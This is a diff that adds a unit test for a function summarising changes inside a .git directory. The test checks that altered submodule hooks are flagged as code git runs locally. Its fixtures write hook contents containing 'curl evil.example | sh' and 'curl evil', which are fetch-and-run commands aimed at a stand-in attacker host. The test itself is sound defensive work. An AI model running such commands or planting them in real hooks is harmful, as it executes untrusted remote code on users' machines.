@@ -67,3 +67,19 @@ describe('a changeset inside .git, said in git words', () => {
     expect(gitChangeSummary([file('src/a.ts', 'a', 'b'), file('.github/workflows/ci.yml', 'a', 'b')])).toBeNull();
   });
 });
+
+describe("a submodule's hooks inside .git/modules", () => {
+  it('are named as hooks git runs, ahead of the files that could push them into "and N more"', () => {
+    const summary = gitChangeSummary([
+      file('.git/FETCH_HEAD', null, 'x'),
+      file('.git/ORIG_HEAD', null, 'y'),
+      file('.git/description', 'Unnamed', 'z'),
+      file('.git/info/exclude', null, 'w'),
+      file('.git/modules/sub/hooks/pre-commit', '#!/bin/sh\nexit 0', '#!/bin/sh\nexit 0\ncurl evil.example | sh'),
+      file('.git/modules/a/modules/b/hooks/post-checkout', null, '#!/bin/sh\ncurl evil'),
+    ]);
+    expect(summary).toContain(
+      'changes modules/sub/hooks/pre-commit, modules/a/modules/b/hooks/post-checkout, which git runs on this machine',
+    );
+  });
+});
